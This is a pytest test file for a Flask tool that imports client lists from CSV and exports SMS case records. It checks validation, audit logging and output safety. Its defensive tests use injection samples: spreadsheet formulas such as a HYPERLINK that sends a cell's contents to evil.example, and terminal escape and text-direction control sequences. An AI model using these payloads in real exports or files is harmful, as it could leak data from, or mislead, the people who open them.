"""Stories of staff importing a client list and exporting the texts of the case record."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import cast

import pytest
from click.testing import Result
from flask import Flask
from flask.testing import FlaskCliRunner
from sqlalchemy import Table, select
from sqlalchemy import text as sql
from sqlalchemy.exc import StatementError
from sqlalchemy.orm import Session

from botapp.models import AuditEvent, Client, Direction, Message, MessageStatus, Office
from tests.support import (
    ALEX,
    LUCIA,
    STRANGER,
    MakeApp,
    WriteCsv,
    botapp,
    client_by_phone,
    count,
    fresh,
)

MESSAGES = cast(Table, Message.__table__)  # for plain UPDATEs, as botapp writes them
HEADER = "external_id,first_name,last_name,phone,language,timezone,specialist_email\n"


def client_by_id(session: Session, external_id: str) -> Client:
    return fresh(session).scalars(select(Client).where(Client.external_id == external_id)).one()


def import_clients(runner: FlaskCliRunner, tmp_csv: WriteCsv, content: str, *extra: str) -> Result:
    return botapp(runner, "import", "clients", str(tmp_csv(content)), *extra)


def test_a_good_file_is_imported_into_the_office(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner,
        tmp_csv,
        HEADER
        + "VR-1,Marcus,Bell,(312) 555-0150,en,America/Chicago,james.carter@demo.example\n"
        + "VR-2,Rosa,Díaz,773.555.0151,es-MX,America/Denver,Maria.Lopez@demo.example\n",
    )
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "2 clients imported",
        "0 clients updated",
        "0 rows rejected",
    ]
    rosa = client_by_id(demo, "VR-2")
    assert rosa.specialist is not None
    assert (rosa.phone, rosa.language, rosa.timezone) == ("+17735550151", "es", "America/Denver")
    assert rosa.specialist.email == "maria.lopez@demo.example"
    assert rosa.office.name == "Chicago Loop Office"


def test_importing_again_updates_by_external_id_instead_of_duplicating(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    row = "VR-1,Marcus,{},3125550150,en,America/Chicago,\n"
    assert import_clients(runner, tmp_csv, HEADER + row.format("Bell")).exit_code == 0
    before = count(demo, Client)
    result = import_clients(runner, tmp_csv, HEADER + row.format("Bell-Young"))
    assert result.exit_code == 0
    assert "0 clients imported" in result.output and "1 client updated" in result.output
    assert count(demo, Client) == before
    assert client_by_id(demo, "VR-1").last_name == "Bell-Young"


def test_bad_rows_are_reported_by_line_and_the_good_rows_still_imported(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner,
        tmp_csv,
        HEADER
        + "VR-1,Marcus,Bell,3125550150,en,America/Chicago,\n"  # line 2: good
        + "VR-2,Ann,Lee,555,en,America/Chicago,\n"  # 3
        + "VR-3,Ann,Lee,3125550152,fr,America/Chicago,\n"  # 4
        + "VR-4,Ann,Lee,3125550153,en,Chicago,\n"  # 5
        + "VR-5,Ann,Lee,3125550154,en,UTC,nobody@demo.example\n"  # 6
        + "VR-6,Ann,Lee,312-555-0150,en,UTC,\n"  # 7: line 2's phone
        + "VR-7,,Lee,3125550156,en,UTC,\n"  # 8
        + "VR-1,Marc,Bell,3125550157,en,UTC,\n"  # 9: line 2's id
        + f"VR-8,Ann,Lee,{ALEX},en,UTC,\n"  # 10: Alex's phone
        + "VR-9,Tomás,Ruiz,3125550159,es,America/Chicago,\n",
    )  # 11: good
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "line 3: phone '555' is not a valid phone number",
        "line 4: language 'fr' is not supported (supported: en, es)",
        "line 5: timezone 'Chicago' is not a time zone name such as America/Chicago",
        "line 6: specialist_email 'nobody@demo.example' is not the email of an active staff member",
        "line 7: phone +*******0150 already appears on line 2",
        "line 8: first_name is empty",
        "line 9: external_id 'VR-1' already appears on line 2",
        "line 10: phone +*******0142 already belongs to client DEMO-1001",
        "2 clients imported",
        "0 clients updated",
        "8 rows rejected",
    ]
    imported = select(Client.external_id).where(Client.external_id.like("VR-%"))
    assert sorted(fresh(demo).scalars(imported)) == ["VR-1", "VR-9"]
    assert client_by_id(demo, "VR-1").first_name == "Marcus"
    assert client_by_id(demo, "DEMO-1001").phone == ALEX


def test_blank_lines_count_like_spreadsheet_rows_and_stray_values_are_caught(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner, tmp_csv, HEADER + "\n,,,,,,\n" + "VR-1,Ann,Lee,3125550150,en,UTC,,oops\n"
    )
    assert result.exit_code == 2  # its one row rejected: nothing imported
    assert "line 4: more values than columns" in result.output


def test_a_nul_character_rejects_its_row_by_line_like_any_bad_value(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv, caplog: pytest.LogCaptureFixture
) -> None:
    before = count(demo, Client)
    result = import_clients(
        runner,
        tmp_csv,
        HEADER
        + "VR-1,Marcus,Bell,3125550150,en,America/Chicago,\n"
        + "VR-2,Ro\x00sa,Diaz,3125550151,es,America/Denver,\n"
        + "VR-\x003,Ann,Lee,3125550152,en,UTC,\n",
    )
    assert result.exit_code == 1, result.output
    assert result.output.splitlines()[:2] == [
        "line 3: first_name holds a NUL character (invisible; some programs write it): "
        "type the value again",
        "line 4: external_id holds a NUL character (invisible; some programs write it): "
        "type the value again",
    ]
    assert "2 rows rejected" in result.output
    assert client_by_id(demo, "VR-1").first_name == "Marcus"
    assert count(demo, Client) == before + 1
    assert "3125550151" not in caplog.text and "Diaz" not in caplog.text


def test_a_file_whose_every_row_is_rejected_exits_2_as_its_help_says(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    before = count(demo, Client)
    result = import_clients(
        runner, tmp_csv, HEADER + "VR-1,Ann,Lee,555,en,UTC,\n" + "VR-2,,Lee,3125550151,en,UTC,\n"
    )
    assert result.exit_code == 2, result.output
    assert result.output.splitlines()[-3:] == [
        "0 clients imported",
        "0 clients updated",
        "2 rows rejected",
    ]
    assert count(demo, Client) == before


def test_a_missing_column_stops_the_import_before_anything_is_written(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    before = count(demo, Client)
    result = import_clients(
        runner, tmp_csv, "external_id,first_name,last_name,phone\nVR-1,Ann,Lee,3125550150\n"
    )
    assert result.exit_code == 2
    assert "required columns missing: language, timezone. Nothing was imported." in result.output
    assert count(demo, Client) == before


def test_an_unknown_column_is_named_in_a_warning_and_the_rows_still_imported(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner,
        tmp_csv,
        "external_id,first_name,last_name,phone,language,timezone,Notes\n"
        "VR-1,Ann,Lee,3125550150,en,UTC,prefers mornings\n",
    )
    assert result.exit_code == 0
    assert result.output.splitlines()[:2] == ["unknown column ignored: Notes", "1 client imported"]


def test_a_bom_and_non_ascii_names_are_fine(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner,
        tmp_csv,
        "\ufeff"
        + HEADER
        + "VR-1,José,Nguyễn,3125550150,es,America/Chicago,\n"
        + "VR-2,Zoe\u0301,O'Brien,3125550151,en,America/Chicago,\n",
    )  # é typed as e + accent
    assert result.exit_code == 0, result.output
    jose = client_by_id(demo, "VR-1")
    assert (jose.first_name, jose.last_name) == ("José", "Nguyễn")
    assert client_by_id(demo, "VR-2").first_name == "Zoé"


def test_a_semicolon_separated_file_from_a_spanish_excel_is_read(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    result = import_clients(
        runner, tmp_csv, HEADER.replace(",", ";") + "VR-1;Ana;Peña;3125550150;es;America/Chicago;\n"
    )
    assert result.exit_code == 0, result.output
    assert client_by_id(demo, "VR-1").last_name == "Peña"


def test_a_file_that_is_not_utf8_is_refused_with_a_clear_message(
    runner: FlaskCliRunner, demo: Session, tmp_path: Path
) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes((HEADER + "VR-1,José,Lee,3125550150,es,UTC,\n").encode("latin-1"))
    before = count(demo, Client)
    result = botapp(runner, "import", "clients", str(path))
    assert result.exit_code == 2
    assert "the file is not UTF-8 text (first bad character on line 2)" in result.output
    assert "CSV UTF-8" in result.output
    assert count(demo, Client) == before


def test_a_missing_file_or_office_is_said_plainly(
    runner: FlaskCliRunner, app: Flask, tmp_path: Path, tmp_csv: WriteCsv
) -> None:
    result = botapp(runner, "import", "clients", str(tmp_path / "nope.csv"))
    assert result.exit_code == 2 and "cannot read" in result.output
    result = import_clients(runner, tmp_csv, HEADER + "VR-1,Ann,Lee,3125550150,en,UTC,\n")
    assert result.exit_code == 2
    assert "no office yet: add one with `botapp offices add NAME`" in result.output


def test_office_is_chosen_by_name(runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv) -> None:
    with demo.begin():
        office = demo.scalars(select(Office)).one()
        demo.add(Office(agency_id=office.agency_id, name="Rockford Office"))
    content = HEADER + "VR-1,Ann,Lee,3125550150,en,UTC,\n"
    result = import_clients(runner, tmp_csv, content, "--office", "Nowhere")
    assert result.exit_code == 2
    assert result.output == (
        "no office named 'Nowhere'; offices: Chicago Loop Office, Rockford Office\n"
    )
    result = import_clients(runner, tmp_csv, content, "--office", "rockford office")
    assert result.exit_code == 0
    assert client_by_id(demo, "VR-1").office.name == "Rockford Office"
    result = import_clients(runner, tmp_csv, HEADER + "VR-2,Bo,Lee,3125550151,en,UTC,\n")
    assert result.output.splitlines()[0] == (
        "importing into Chicago Loop Office (use --office to choose another)"
    )
    assert client_by_id(demo, "VR-2").office.name == "Chicago Loop Office"


def test_staff_read_the_report_in_the_default_locale(
    make_app: MakeApp, demo: Session, tmp_csv: WriteCsv
) -> None:
    runner = make_app(DEFAULT_LOCALE="es").test_cli_runner()
    result = import_clients(
        runner, tmp_csv, HEADER + "VR-1,Ann,Lee,555,en,UTC,\nVR-2,Ana,Peña,3125550151,es,UTC,\n"
    )
    assert result.output.splitlines() == [
        "línea 2: el teléfono '555' no es un número de teléfono válido",
        "1 cliente importado",
        "0 clientes actualizados",
        "1 fila rechazada",
    ]


@pytest.fixture
def texts(demo: Session) -> Session:
    """Texts of Alex and Lucía (written newest first) and one from an unknown number."""
    t0 = datetime(2025, 3, 4, 15, 0, tzinfo=UTC)
    demo.begin()
    alex, lucia = client_by_phone(demo, ALEX), client_by_phone(demo, LUCIA)
    rows = [
        (alex, Direction.OUTBOUND, "Thanks, Alex.", "delivered", "SM2", 2, "sms.inbox.ack"),
        (lucia, Direction.INBOUND, "¿Puedo cambiar mi cita? 🙏", "processed", "SM3", 3, None),
        (alex, Direction.INBOUND, '=HYPERLINK("http://x")', "processed", "SM1", 1, None),
        (None, Direction.INBOUND, "who is this", "processed", "SM4", 4, None),
    ]
    for client, direction, body, status, sid, minute, key in rows:
        demo.add(
            Message(
                client_id=client.id if client else None,
                direction=direction,
                phone=client.phone if client else STRANGER,
                body=body,
                status=status,
                twilio_sid=sid,
                encoding="GSM-7",
                segments=1,
                message_key=key,
                created_at=t0 + timedelta(minutes=minute),
            )
        )
    demo.commit()
    return demo


def export(runner: FlaskCliRunner, *args: str) -> Result:
    return botapp(runner, "export", "messages", "--by", "dana.reed@demo.example", *args)


def test_one_clients_texts_export_as_csv_oldest_first(
    runner: FlaskCliRunner, texts: Session
) -> None:
    result = export(runner, "--client", "(312) 555-0142")
    assert result.exit_code == 0, result.output
    assert result.stderr == "2 messages exported\n"
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][:5] == ["direction", "body", "status", "sid", "created_at"]
    assert [r[:5] for r in rows[1:]] == [
        ["inbound", '\'=HYPERLINK("http://x")', "processed", "SM1", "2025-03-04T15:01:00+00:00"],
        ["outbound", "Thanks, Alex.", "delivered", "SM2", "2025-03-04T15:02:00+00:00"],
    ]
    assert dict(zip(rows[0], rows[2], strict=True)) == {
        "direction": "outbound",
        "body": "Thanks, Alex.",
        "status": "delivered",
        "sid": "SM2",
        "created_at": "2025-03-04T15:02:00+00:00",
        "client_external_id": "DEMO-1001",
        "phone": ALEX,  # a plain number cannot run: the E.164 phone is exported as it is
        "encoding": "GSM-7",
        "segments": "1",
        "message_key": "sms.inbox.ack",
        "error_code": "",
        "sent_by": "",  # the bot wrote it
    }


def test_one_clients_texts_export_as_json_with_text_unescaped(
    runner: FlaskCliRunner, texts: Session
) -> None:
    result = export(runner, "--client", LUCIA, "--format", "json")
    assert result.exit_code == 0
    assert "¿Puedo cambiar mi cita? 🙏" in result.stdout
    [row] = json.loads(result.stdout)
    assert list(row)[:5] == ["direction", "body", "status", "sid", "created_at"]
    assert (row["direction"], row["sid"], row["segments"]) == ("inbound", "SM3", 1)
    assert row["error_code"] is None


def test_everyones_texts_export_to_a_file_without_unmatched_numbers(
    runner: FlaskCliRunner, texts: Session, tmp_path: Path
) -> None:
    out = tmp_path / "all.json"
    result = export(runner, "--format", "json", "--output", str(out))
    assert result.exit_code == 0 and result.stdout == ""
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert [r["sid"] for r in rows] == ["SM1", "SM2", "SM3"]
    assert rows[0]["body"] == '=HYPERLINK("http://x")'  # only CSV guards against formulas


def test_no_csv_column_can_run_as_a_spreadsheet_formula(
    runner: FlaskCliRunner, texts: Session
) -> None:
    alex = client_by_id(texts, "DEMO-1001")
    alex.external_id = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    texts.execute(
        MESSAGES.update()
        .where(Message.twilio_sid == "SM2")
        .values(message_key="@SUM(1)", error_code="-2+3", encoding="\tgsm7")
    )
    texts.commit()
    result = export(runner, "--client", ALEX)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["body"] == '\'=HYPERLINK("http://x")'
    assert rows[0]["client_external_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert (rows[1]["message_key"], rows[1]["error_code"], rows[1]["encoding"]) == (
        "'@SUM(1)",
        "'-2+3",
        "'\tgsm7",
    )
    formula = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
    unguarded = {cell for row in rows for cell in row.values() if cell.startswith(formula)}
    assert unguarded == {ALEX}  # a plain number (the phone) cannot run, and stays E.164


def test_a_status_is_one_botapp_knows_so_no_formula_can_be_stored_in_it(texts: Session) -> None:
    with pytest.raises(StatementError, match="is not among the defined enum values"):
        texts.execute(
            MESSAGES.update().where(Message.twilio_sid == "SM2").values(status="\tdelivered")
        )
    texts.rollback()
    assert texts.scalars(select(Message.status).where(Message.twilio_sid == "SM2")).one() in set(
        MessageStatus
    )


def test_an_unknown_or_malformed_client_phone_is_a_clear_error(
    runner: FlaskCliRunner, texts: Session
) -> None:
    result = export(runner, "--client", "312-555-0199")
    assert result.exit_code == 1
    assert result.output == "no client has the phone number +*******0199\n"
    result = export(runner, "--client", "555")
    assert result.exit_code == 2 and "'555' is not a valid phone number" in result.output
    assert count(texts, AuditEvent) == 0


def test_every_export_is_audited_without_bodies_or_full_numbers(
    runner: FlaskCliRunner, texts: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert export(runner, "--client", ALEX).exit_code == 0
    monkeypatch.setattr("getpass.getuser", lambda: "jcarter")
    assert botapp(runner, "export", "messages").exit_code == 0
    events = fresh(texts).scalars(select(AuditEvent).order_by(AuditEvent.id)).all()
    assert [(e.actor, e.action, e.detail) for e in events] == [
        ("dana.reed@demo.example", "export_messages", "client DEMO-1001 (+*******0142): 2 rows"),
        ("jcarter", "export_messages", "all clients: 3 rows"),
    ]


def test_an_export_printed_on_a_terminal_cannot_drive_it(
    runner: FlaskCliRunner, texts: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    texts.execute(
        MESSAGES.update()
        .where(Message.twilio_sid == "SM2")
        .values(body="ok\x1b]0;owned\x07\x9b2J\u202eevil")
    )
    texts.commit()
    piped = export(runner, "--client", ALEX, "--format", "json")
    assert "ok\\u001b]0;owned\\u0007\x9b2J\u202eevil" in piped.stdout  # a pipe gets the data
    monkeypatch.setattr("botapp.cli.io.on_terminal", lambda: True)
    expected = {
        "csv": r"ok\x1b]0;owned\x07\x9b2J\u202eevil",
        "json": r"ok\u001b]0;owned\u0007\x9b2J\u202eevil",  # JSON escapes C0 itself
    }
    for fmt, text in expected.items():
        shown = export(runner, "--client", ALEX, "--format", fmt).stdout
        assert text in shown
        assert not [ch for ch in shown if ch in "\x1b\x07\x9b\u202e\r"]


def test_an_agencys_first_caseload_is_planned_for_at_its_new_size(
    runner: FlaskCliRunner, demo: Session, tmp_csv: WriteCsv
) -> None:
    # Importing more clients than a tenth of the table takes its statistics at once on
    # PostgreSQL, so the webhook's lookups by phone stop planning for a near-empty table
    # (decision 30); a few rows more do not.
    rows = "".join(
        f"VR-{n},Client,Number{n},(312) 555-{1000 + n:04d},en,America/Chicago,\n" for n in range(40)
    )
    size = sql("SELECT reltuples FROM pg_class WHERE oid = to_regclass('clients')")
    postgres = demo.get_bind().dialect.name == "postgresql"
    assert import_clients(runner, tmp_csv, HEADER + rows).exit_code == 0
    imported = count(demo, Client)
    if postgres:
        assert fresh(demo).scalar(size) == imported
    more = "VR-90,Ana,Ruiz,(312) 555-1090,es,America/Chicago,\n"
    assert import_clients(runner, tmp_csv, HEADER + more).exit_code == 0
    if postgres:  # one more client: left to autovacuum
        assert fresh(demo).scalar(size) == imported
